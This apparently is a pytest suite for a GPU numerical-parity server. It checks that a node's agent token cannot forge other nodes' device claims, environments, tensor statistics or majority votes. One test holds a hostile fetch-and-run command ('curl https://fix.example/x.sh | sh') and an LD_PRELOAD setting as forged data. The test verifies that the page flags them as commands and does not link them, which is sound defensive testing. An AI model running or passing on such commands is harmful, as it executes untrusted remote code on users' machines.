"""Evidence a node cannot forge (issue 29): one agent token changes only its own node's
record. Each test is built like its finding: node-a holds a token bound to node-a
(`numparity-server token create --node node-a`), the honest nodes upload with their own
token, everything goes through a live server, on SQLite and PostgreSQL."""

from __future__ import annotations

import base64
import os
import re
import subprocess
from typing import Any

import httpx
import numpy as np
import pytest
from helpers.documents import at, gpu_document, run_document, tensor_entry
from helpers.processes import run_cli, server_command

HONEST = ["node-b", "node-c", "node-d", "node-e", "node-f"]
UUID = {node: f"GPU-{i:08d}-aaaa-bbbb-cccc-{i:012d}" for i, node in enumerate(HONEST, 1)}
WRONG = 1e-3  # the shift of a wrong answer


def bound_token(server: Any, node: str) -> dict[str, str]:
    done = run_cli("token", "create", "--role", "agent", "--label", f"only {node}",
                   "--node", node, database_url=server.database_url)
    return {"Authorization": f"Bearer {done.stdout.strip()}"}


def post(server: Any, document: dict[str, Any], headers: dict[str, str]) -> httpx.Response:
    return httpx.post(f"{server.base_url}/api/v1/runs", json=document, headers=headers,
                      timeout=60)


def honest_upload(server: Any, document: dict[str, Any]) -> None:
    response = post(server, document, server.headers("agent"))
    assert response.status_code == 201, response.text


def get(server: Any, path: str, **params: Any) -> Any:
    response = httpx.get(f"{server.base_url}/api/v1{path}", params=params,
                         headers=server.headers("reader"), timeout=60)
    assert response.status_code == 200, response.text
    return response.json()


def statuses(server: Any) -> dict[str, str]:
    """node → its worst audit status among suspects and nondeterministic."""
    report = get(server, "/audit", limit=100)
    found = {entry["node"]: entry["status"] for entry in report["suspects"]}
    found.update({entry["node"]: "nondeterministic" for entry in report["nondeterministic"]})
    return found


def devices_of(server: Any, node: str) -> list[str | None]:
    return [device["uuid"] for device in get(server, f"/nodes/{node}")["devices"]]


def honest_fleet(server: Any, hours_ago: float, *, wrong: str | None = None) -> None:
    """Each honest node's strict run on its one GPU; ``wrong``'s GPU computes wrong."""
    for node in HONEST:
        uuid = UUID[node]
        honest_upload(server, gpu_document(node, hours_ago, [uuid], shifted={
            uuid: WRONG} if node == wrong else None))


def test_a_gpu_claimed_in_runs_dated_earlier_leaves_its_owner_clean(live_server):
    """Finding 1: node-a's two runs on node-b's GPU UUID, dated before node-b's newest,
    with another answer: node-b stays clean, before and after its next honest run."""
    honest_fleet(live_server, 1)
    evil = bound_token(live_server, "node-a")
    answers = []
    for hours in (5, 4):
        forged = gpu_document("node-a", hours, [UUID["node-b"]],
                              shifted={UUID["node-b"]: WRONG})
        response = post(live_server, forged, evil)
        assert response.status_code == 201, response.text
        answers.append(response.json())
    assert "node-b" not in statuses(live_server)
    assert devices_of(live_server, "node-b") == [UUID["node-b"]]
    # The upload's answer says what it claimed.
    assert [a.get("claimed_devices") for a in answers] == [[f"uuid:{UUID['node-b']}"]] * 2
    honest_upload(live_server, gpu_document("node-b", 0.5, [UUID["node-b"]]))
    assert "node-b" not in statuses(live_server)
    # node-a's runs speak for node-a: its claim disagrees with the fleet.
    assert statuses(live_server).get("node-a") == "suspect"


def test_a_gpu_claimed_in_a_later_run_stays_with_its_owner_until_an_admin_moves_it(
        live_server):
    """Finding 2: node-b's GPU computes wrong; node-a claims it in a later, honest run.
    The GPU stays on node-b (still suspect, no drift); only `device move` moves it."""
    honest_fleet(live_server, 3, wrong="node-b")
    honest_fleet(live_server, 2, wrong="node-b")
    assert statuses(live_server)["node-b"] == "suspect"
    evil = bound_token(live_server, "node-a")
    response = post(live_server, gpu_document("node-a", 1, [UUID["node-b"]]), evil)
    assert response.status_code == 201, response.text
    assert statuses(live_server)["node-b"] == "suspect"
    assert devices_of(live_server, "node-b") == [UUID["node-b"]]
    assert devices_of(live_server, "node-a") == [None]  # its claim, a device of its own
    assert not [row for row in get(live_server, "/audit")["drift"] if row["device"]]

    claims = run_cli("device", "claims", database_url=live_server.database_url).stdout
    assert f"uuid:{UUID['node-b']}\towner node-b\tclaimed by node-a" in claims
    moved = run_cli("device", "move", UUID["node-b"], "--to", "node-a",
                    database_url=live_server.database_url).stdout
    assert f"moved uuid:{UUID['node-b']} from node-b to node-a" in moved
    assert devices_of(live_server, "node-a") == [UUID["node-b"]]
    assert devices_of(live_server, "node-b") == []
    assert "node-b" not in statuses(live_server)
    # node-a's next run on it is no longer a claim.
    response = post(live_server, gpu_document("node-a", 0.5, [UUID["node-b"]]), evil)
    assert response.json()["claimed_devices"] == []


def test_device_move_refuses_a_device_it_does_not_know_naming_it(live_server):
    honest_fleet(live_server, 1)
    done = subprocess.run([*server_command(), "device", "move", "GPU-nope", "--to", "node-b"],
                          env={**os.environ,
                               "NUMPARITY_DATABASE_URL": live_server.database_url},
                          capture_output=True, text=True, timeout=120)
    assert done.returncode != 0 and "no device 'GPU-nope'" in done.stderr


def test_an_environment_filed_under_another_key_is_422(live_server):
    """Finding 4: node-a, on the same hardware, uploads first under node-b's env_key an
    environment of another torch: refused, and node-b's environment stays its own."""
    honest = run_document("node-b", started_at=at(2))
    forged = run_document("node-a", started_at=at(3))
    forged["environment"]["torch"]["version"] = "1.0.0+evil"
    assert forged["environment"]["env_key"] == honest["environment"]["env_key"]
    response = post(live_server, forged, bound_token(live_server, "node-a"))
    assert response.status_code == 422, response.text
    (error,) = response.json()["detail"]
    assert error["loc"] == ["body", "environment", "env_key"]
    assert "is not the key of this environment document" in error["msg"]
    honest_upload(live_server, honest)
    (environment,) = get(live_server, "/environments")["items"]
    assert environment["torch"] == "2.13.0"


def _large_tensor_documents() -> tuple[dict[str, Any], dict[str, Any], dict[str, Any]]:
    """node-a's run whose large tensor ``fc1`` (no values: over 4,096 elements) declares
    NaNs and Infs it does not hold, node-b's run of the same bytes with its values, and
    node-c's run of other bytes (the reference it is compared with)."""
    array = np.random.default_rng(7).standard_normal((8, 1024)).astype(np.float32)
    honest = run_document("node-b", started_at=at(1))
    forged = run_document("node-a", started_at=at(2))
    reference = run_document("node-c", started_at=at(1))
    for document, tensor in ((honest, array), (forged, array), (reference, array * 2)):
        document["results"][0]["tensors"] = [tensor_entry("fc1", "output", 0, tensor)]
    forged["results"][0]["tensors"][0]["stats"].update(nan=7, inf=3, pos_inf=3, neg_inf=0)
    honest["results"][0]["tensors"][0]["values"] = {
        "dtype": "float32", "data": base64.b64encode(array.astype("<f4").tobytes()).decode()}
    return forged, honest, reference


def test_stats_that_contradict_the_values_beside_them_are_422(live_server):
    """Finding 5, values travelling: the same bytes with forged counts are refused."""
    forged = run_document("node-a", started_at=at(2))
    forged["results"][0]["tensors"][2]["stats"].update(nan=7, inf=3, pos_inf=3)
    response = post(live_server, forged, bound_token(live_server, "node-a"))
    assert response.status_code == 422, response.text
    (error,) = response.json()["detail"]
    assert error["loc"][:4] == ["body", "results", 0, "tensors"]
    assert "stats contradict its values: nan 7 (the values have 0)" in error["msg"]


def test_a_fingerprint_first_stored_with_forged_stats_takes_the_values_stats(live_server):
    """Finding 5, first uploader: node-a stores a large tensor's fingerprint first with
    forged counts (no values travel); node-b's upload of the same bytes carries the
    values, and /compare of node-b's run shows no NaN or Inf in it."""
    forged, honest, reference = _large_tensor_documents()
    assert post(live_server, forged, bound_token(live_server, "node-a")).status_code == 201
    honest_upload(live_server, honest)
    honest_upload(live_server, reference)
    compared = get(live_server, "/compare", run_a=reference["run_id"], run_b=honest["run_id"])
    (pair,) = [pair for pair in compared["pairs"] if pair["compared"]]
    assert pair["first_nonfinite"] is None


def test_checks_reported_on_a_claimed_gpu_stay_with_the_claiming_node(live_server):
    """Finding 6: node-a's earlier run on node-b's GPU reports batch_invariant false; it
    is node-a's claim, and node-b's GPU keeps no result of it."""
    honest_fleet(live_server, 1)
    forged = gpu_document("node-a", 5, [UUID["node-b"]])
    forged["results"][0]["checks"] = {"batch_invariant": {"equal": False, "op": "evil.op",
                                                          "max_ulp": 3}}
    response = post(live_server, forged, bound_token(live_server, "node-a"))
    assert response.status_code == 201, response.text
    assert devices_of(live_server, "node-b") == [UUID["node-b"]]
    assert "node-b" not in statuses(live_server)
    assert response.json().get("claimed_devices") == [f"uuid:{UUID['node-b']}"]


@pytest.mark.parametrize("name", ["gpu-x\nnode-b", "gpu-x\u202enode-b", "gpu-\u200bx",
                                  "gpu-x\rnode-b"])
def test_a_node_name_with_invisible_characters_is_422_naming_them(live_server, name):
    """Finding 8: a name that could read as another node's, even under a pattern token
    that matches it."""
    headers = {"Authorization": "Bearer " + run_cli(
        "token", "create", "--role", "agent", "--node-pattern", "gpu-*",
        database_url=live_server.database_url).stdout.strip()}
    response = post(live_server, run_document(name, started_at=at(1)), headers)
    assert response.status_code == 422, response.text
    (error,) = response.json()["detail"]
    assert error["loc"] == ["body", "node", "name"]
    assert "invisible or control characters" in error["msg"] and "U+" in error["msg"]
    assert get(live_server, "/nodes")["items"] == []


def test_a_token_bound_to_a_name_with_a_control_character_is_refused(live_server):
    env = {**os.environ, "NUMPARITY_DATABASE_URL": live_server.database_url}
    for option in ("--node", "--node-pattern"):
        done = subprocess.run([*server_command(), "token", "create", "--role", "agent",
                               option, "gpu-*\nnode-b"], env=env, capture_output=True,
                              text=True, timeout=120)
        assert done.returncode != 0
        assert "U+000A (LINE FEED)" in done.stderr


def test_devices_without_identity_are_one_voter_for_their_node(live_server):
    """Finding 3: node-a lists 8 made-up GPUs (no UUID, no serial) on node-b's
    environment with a wrong answer. They are one voter: the 4 honest nodes stay the
    majority, none of them is suspect, and node-a is, judged by their evidence."""
    honest = HONEST[:4]
    evil = bound_token(live_server, "node-a")
    for hours in (3, 2):
        for node in honest:
            honest_upload(live_server, gpu_document(node, hours, [UUID[node]]))
        stuffed = gpu_document("node-a", hours, [f"fake-{i}" for i in range(8)],
                               shifted={f"fake-{i}": WRONG for i in range(8)})
        for device in stuffed["devices"]:
            device["uuid"] = device["serial"] = None
        # node-b's environment, copied: the made-up GPUs are its peers.
        stuffed["environment"] = gpu_document("node-b", hours, [UUID["node-b"]])["environment"]
        response = post(live_server, stuffed, evil)
        assert response.status_code == 201, response.text
    found = statuses(live_server)
    assert not any(node in found for node in honest), found
    report = get(live_server, "/audit", limit=100)
    suspects = [entry for entry in report["suspects"] if entry["node"] == "node-a"]
    assert suspects and all(entry["status"] == "suspect" for entry in suspects)
    assert suspects[0]["majority_from"] == honest
    assert suspects[0]["majority_nodes"] == 4 and suspects[0]["peers"] == 4


def test_one_node_alone_cannot_make_the_majority_that_judges_another(live_server):
    """Finding 3 with made-up UUIDs: node-a's 8 GPUs outnumber the 4 honest ones, but a
    majority of one node's devices judges only that node: nobody honest is suspect."""
    honest = HONEST[:4]
    evil = bound_token(live_server, "node-a")
    fakes = [f"GPU-fake{i:04d}-aaaa-bbbb-cccc-{i:012d}" for i in range(8)]
    for hours in (3, 2):
        for node in honest:
            honest_upload(live_server, gpu_document(node, hours, [UUID[node]]))
        stuffed = gpu_document("node-a", hours, fakes, shifted={uuid: WRONG for uuid in fakes})
        stuffed["environment"] = gpu_document("node-b", hours, [UUID["node-b"]])["environment"]
        response = post(live_server, stuffed, evil)
        assert response.status_code == 201, response.text
    found = statuses(live_server)
    assert not any(node in found for node in honest), found


def _explanation(node: str, against: str, finding: dict[str, Any]) -> dict[str, Any]:
    """An explain document as the agent writes it (`explanation_document`), its one
    finding's fields replaced by ``finding``."""
    from numparity_agent import _explain

    target = _explain.Target(suite="standard", workload="cnn", workload_version=1,
                             variant="default", device="cpu", tensors=(("output", "e" * 64),))
    document = _explain.explanation_document(
        _explain.Explained([_explain.Finding(target=target, tried=1, seconds=1.0)], None),
        node=node, against=against, device="cpu", started_at=at(1), finished_at=at(0.9))
    document["findings"][0].update(finding)
    return document


def test_forged_explain_findings_are_shown_as_the_nodes_claims(live_server):
    """Finding 7: node-a's findings beside an honest split ("reproduced with
    LD_PRELOAD=/tmp/fix.so", detail "curl … | sh") say who made them, that the setting is
    not in the other side's recorded environment, and the text is marked, never a link."""
    stock = run_document("node-b", started_at=at(2))
    mkl = run_document("node-c", started_at=at(2), env_vars={"MKL_CBWR": "COMPATIBLE"},
                       shift=1e-3)
    for document in (stock, mkl, run_document("node-a", started_at=at(2))):
        honest_upload(live_server, document)
    evil = bound_token(live_server, "node-a")
    url = f"{live_server.base_url}/api/v1/explanations"
    for against, finding in (
            (mkl["run_id"], {"status": "reproduced", "label": "LD_PRELOAD=/tmp/fix.so",
                             "setting": {"env": {"LD_PRELOAD": "/tmp/fix.so"}, "knobs": {}}}),
            (stock["run_id"], {"status": "failed",
                               "detail": "curl https://fix.example/x.sh | sh"})):
        response = httpx.post(url, json=_explanation("node-a", against, finding),
                              headers=evil, timeout=60)
        assert response.status_code == 201, response.text
    listed = {entry["status"]: entry for entry in get(live_server, "/explanations")["items"]}
    reproduced, failed = listed["reproduced"], listed["failed"]
    assert reproduced["claimed_by"] == "node-a"
    assert reproduced["verified"] == "not_in_reference_environment"
    assert "LD_PRELOAD=/tmp/fix.so" in reproduced["verification"]
    assert reproduced["text_looks_like_command"] and failed["text_looks_like_command"]
    page = httpx.get(f"{live_server.base_url}/workloads/cnn",
                     headers=live_server.headers("reader"), timeout=60).text
    assert 'data-verified="not_in_reference_environment"' in page
    assert "do not run it" in page and "node-a</code> claims it" in page
    assert 'href="https://fix.example' not in page


def test_values_sent_in_parts_replace_forged_stats_too(live_server):
    """Finding 5, the values' other way in: node-b sends the large tensor's values in
    parts (PUT /values/{hash}) after node-a stored its fingerprint with forged counts."""
    forged, honest, reference = _large_tensor_documents()
    assert post(live_server, forged, bound_token(live_server, "node-a")).status_code == 201
    tensor = honest["results"][0]["tensors"][0]
    raw = base64.b64decode(tensor.pop("values")["data"])
    honest_upload(live_server, honest)
    honest_upload(live_server, reference)
    node_b = bound_token(live_server, "node-b")
    response = httpx.put(f"{live_server.base_url}/api/v1/values/{tensor['hash']}",
                         params={"offset": 0}, content=raw, headers=node_b, timeout=60)
    assert response.status_code == 200 and response.json()["complete"], response.text
    compared = get(live_server, "/compare", run_a=reference["run_id"], run_b=honest["run_id"])
    (pair,) = [pair for pair in compared["pairs"] if pair["compared"]]
    assert pair["first_nonfinite"] is None


def stuff(server: Any, *, shift: float = WRONG, input_hash: str | None = None) -> None:
    """Finding 3's upload: node-a, with its own bound token, lists 8 made-up GPUs (no
    UUID, no serial) on node-b's environment, copied, each answering with ``shift``
    (and reporting ``input_hash`` when given)."""
    fakes = [f"fake-{i}" for i in range(8)]
    stuffed = gpu_document("node-a", 1, fakes, shifted=dict.fromkeys(fakes, shift))
    for device in stuffed["devices"]:
        device["uuid"] = device["serial"] = None
    for result in stuffed["results"]:
        result["input_hash"] = input_hash or result["input_hash"]
    stuffed["environment"] = gpu_document("node-b", 1, [UUID["node-b"]])["environment"]
    response = post(server, stuffed, bound_token(server, "node-a"))
    assert response.status_code == 201, response.text


def _fleet_page_cells(server: Any) -> dict[str, list[str]]:
    """node → the verdicts of its row's cells on the fleet page (in column order)."""
    response = httpx.get(f"{server.base_url}/", headers=server.headers("reader"), timeout=60)
    assert response.status_code == 200, response.text[:2000]
    found: dict[str, list[str]] = {}
    for row in re.findall(r'<tr[^>]*data-node="([^"]+)"[^>]*>(.*?)</tr>', response.text,
                          flags=re.S):
        found[row[0]] = re.findall(r'class="cell"[^>]*data-verdict="([^"]+)"', row[1])
    return found


def test_devices_without_identity_do_not_make_the_usual_answer(live_server):
    """Finding 3 on the fleet page and /divergence: node-a's 8 made-up GPUs (no UUID, no
    serial) on node-b's environment with a wrong answer are one voter. The usual answer
    stays the 4 honest nodes': their cells stay identical, /divergence's baseline is
    theirs, and each group says how many voters it has beside its devices."""
    honest = HONEST[:4]
    for node in honest:
        honest_upload(live_server, gpu_document(node, 2, [UUID[node]]))
    before = _fleet_page_cells(live_server)
    assert {tuple(before[node]) for node in honest} == {("identical",)}, before
    stuff(live_server)

    after = _fleet_page_cells(live_server)
    assert {node: after[node] for node in honest} == {node: before[node] for node in honest}
    assert after["node-a"] == ["divergent"], after
    report = get(live_server, "/divergence", workload="cnn", variant="strict")
    baseline, other = report["groups"]
    assert sorted(set(baseline["nodes"])) == honest
    assert (baseline["size"], baseline["voters"]) == (4, 4)
    assert set(other["nodes"]) == {"node-a"}
    assert (other["size"], other["voters"]) == (8, 1)


def test_devices_without_identity_do_not_make_the_fleets_input_bytes(live_server):
    """Finding 3 on the input bytes: node-a's 8 made-up GPUs report other input bytes.
    They are one voter, so the fleet's bytes stay the honest nodes': /divergence leaves
    node-a's results out as broken inputs, not the honest ones."""
    honest = HONEST[:4]
    for node in honest:
        honest_upload(live_server, gpu_document(node, 2, [UUID[node]]))
    stuff(live_server, shift=0.0, input_hash="in-" + "f" * 61)

    report = get(live_server, "/divergence", workload="cnn", variant="strict")
    (group,) = report["groups"]
    assert sorted(group["nodes"]) == honest
    assert {entry["node"] for entry in report["excluded"]} == {"node-a"}


def test_devices_without_identity_do_not_make_a_pins_majority(live_server):
    """Finding 3 on pins: an admin pinning node-b's environment from the majority pins
    the 4 honest nodes' answer, not the one node-a's 8 made-up GPUs give."""
    honest = HONEST[:4]
    for node in honest:
        honest_upload(live_server, gpu_document(node, 2, [UUID[node]]))
    stuff(live_server)

    response = httpx.post(f"{live_server.base_url}/api/v1/goldens",
                          json={"source": "majority", "node": "node-b", "reason": "x"},
                          headers=live_server.headers("admin"), timeout=60)
    assert response.status_code == 201, response.text
    run_id = get(live_server, "/runs", node="node-b")["items"][0]["run_id"]
    honest_answer = get(live_server, f"/runs/{run_id}")["results"][0]["manifest_hash"]
    (answer,) = response.json()["answers"]
    assert (answer["variant"], answer["manifest_hash"]) == ("strict", honest_answer)
    assert answer["holders"] == 4


def test_the_workload_page_orders_groups_by_voters_and_says_so(live_server):
    """Finding 3 on the workload page: node-a's 8 made-up GPUs are group 2, their size
    shown with their one voter; the honest nodes' answer is group 1."""
    honest = HONEST[:4]
    for node in honest:
        honest_upload(live_server, gpu_document(node, 2, [UUID[node]]))
    stuff(live_server)
    response = httpx.get(f"{live_server.base_url}/workloads/cnn",
                         headers=live_server.headers("reader"), timeout=60)
    assert response.status_code == 200, response.text[:2000]
    rows = dict(re.findall(r'<tr data-group="(\d+)">(.*?)</tr>', response.text, flags=re.S))
    assert "node-b" in rows["1"] and "node-a" not in rows["1"]
    assert "node-a" in rows["2"] and "(1 voter)" in rows["2"]
